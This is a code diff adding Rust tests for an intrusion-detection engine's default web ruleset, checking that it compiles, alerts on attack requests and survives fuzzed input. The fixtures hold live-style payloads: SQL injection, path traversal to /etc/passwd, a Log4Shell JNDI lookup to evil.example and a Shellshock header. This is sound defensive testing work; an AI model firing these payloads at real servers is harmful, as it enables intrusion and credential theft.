@@ -1,6 +1,8 @@
 //! The engine over the real-world corpus: all of ET Open (2024-04) compiles,
 //! the engine's own rejections are reported by reason and stay rare, and
-//! random buffers at every kind of inspection point never panic it.
+//! random buffers at every kind of inspection point never panic it (with
+//! ET Open, and with Vigil's default ruleset, which must compile whole and
+//! catch the attacks it is written for).
 
 use std::net::IpAddr;
 use std::path::PathBuf;
@@ -37,6 +39,93 @@ fn et_engine() -> Option<&'static Mutex<SignatureEngine>> {
             Some(Mutex::new(engine))
         })
         .as_ref()
+}
+
+fn default_rules() -> Vec<vigil_sig::rule::Rule> {
+    let path = PathBuf::from(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../../rules/vigil-web.rules"
+    ));
+    let (rules, summary) = load_files(&[path], &Vars::default()).expect("default ruleset loads");
+    assert_eq!(summary.skipped_total(), 0, "default ruleset fully accepted");
+    rules
+}
+
+/// The default ruleset compiled once.
+fn default_engine() -> &'static Mutex<SignatureEngine> {
+    static ENGINE: OnceLock<Mutex<SignatureEngine>> = OnceLock::new();
+    ENGINE.get_or_init(|| Mutex::new(SignatureEngine::compile(default_rules()).0))
+}
+
+#[test]
+fn default_ruleset_compiles_whole_and_catches_web_attacks() {
+    let rules = default_rules();
+    let n = rules.len();
+    let (mut engine, summary) = SignatureEngine::compile(rules);
+    print!("{summary}");
+    assert_eq!(summary.compiled, n, "{summary}");
+    let f = flow(true);
+    let ctx = InspectCtx {
+        flow: &f,
+        dir: Direction::ToResponder,
+        to_server: true,
+        established: true,
+        app: Some(AppProto::Http),
+        ip_protocol: 6,
+        ts: Timestamp::from_nanos(1),
+        packet: 1,
+        stream_offset: 0,
+    };
+    let attacks: [&[u8]; 4] = [
+        b"/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+        b"/download?file=../../../../etc/passwd",
+        b"/?x=${jndi:ldap://evil.example/a}",
+        b"/cgi-bin/status",
+    ];
+    let headers: [&[u8]; 4] = [
+        b"Host: a\r\n",
+        b"Host: a\r\n",
+        b"Host: a\r\n",
+        b"Host: a\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n",
+    ];
+    for (uri, hdr) in attacks.iter().zip(headers) {
+        let mut out = Vec::new();
+        let ua: &[u8] = if hdr.len() > 12 {
+            b"() { :; }; /bin/bash -c 'id'"
+        } else {
+            b"curl/8.5.0"
+        };
+        engine.inspect(
+            &ctx,
+            &[
+                (Buffer::HttpMethod, b"GET"),
+                (Buffer::HttpUri, uri),
+                (Buffer::HttpRawUri, uri),
+                (Buffer::HttpHost, b"a"),
+                (Buffer::HttpUserAgent, ua),
+                (Buffer::HttpHeader, hdr),
+            ],
+            &mut out,
+        );
+        assert!(
+            !out.is_empty(),
+            "no alert for {}",
+            String::from_utf8_lossy(uri)
+        );
+    }
+    let mut out = Vec::new();
+    engine.inspect(
+        &ctx,
+        &[
+            (Buffer::HttpMethod, b"GET"),
+            (Buffer::HttpUri, b"/index.html"),
+            (Buffer::HttpHost, b"a"),
+            (Buffer::HttpUserAgent, b"curl/8.5.0"),
+            (Buffer::HttpHeader, b"Host: a\r\nUser-Agent: curl/8.5.0\r\n"),
+        ],
+        &mut out,
+    );
+    assert!(out.is_empty(), "benign request alerted: {out:?}");
 }
 
 #[test]
@@ -119,6 +208,40 @@ const KINDS: &[Buffer] = &[
 
 proptest! {
     #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
+
+    #[test]
+    fn random_buffers_never_panic_default_ruleset(
+        bufs in proptest::collection::vec((0..KINDS.len(), proptest::collection::vec(any::<u8>(), 0..600)), 1..5),
+        to_client in any::<bool>(),
+        offset in 0u64..5000,
+    ) {
+        let mut engine = default_engine().lock().unwrap_or_else(|e| e.into_inner());
+        let f = flow(true);
+        let ctx = InspectCtx {
+            flow: &f,
+            dir: if to_client { Direction::ToOriginator } else { Direction::ToResponder },
+            to_server: !to_client,
+            established: true,
+            app: Some(AppProto::Http),
+            ip_protocol: 6,
+            ts: Timestamp::from_nanos(offset as i64),
+            packet: offset,
+            stream_offset: offset,
+        };
+        let mut seen = Vec::new();
+        let mut slices: Vec<(Buffer, &[u8])> = Vec::new();
+        for (k, data) in &bufs {
+            if !seen.contains(k) {
+                seen.push(*k);
+                slices.push((KINDS[*k], data.as_slice()));
+            }
+        }
+        let mut out = Vec::new();
+        engine.inspect(&ctx, &slices, &mut out);
+        for ev in &out {
+            prop_assert_eq!(ev.class_uid, 2004);
+        }
+    }
 
     #[test]
     fn random_buffers_never_panic_et_open(
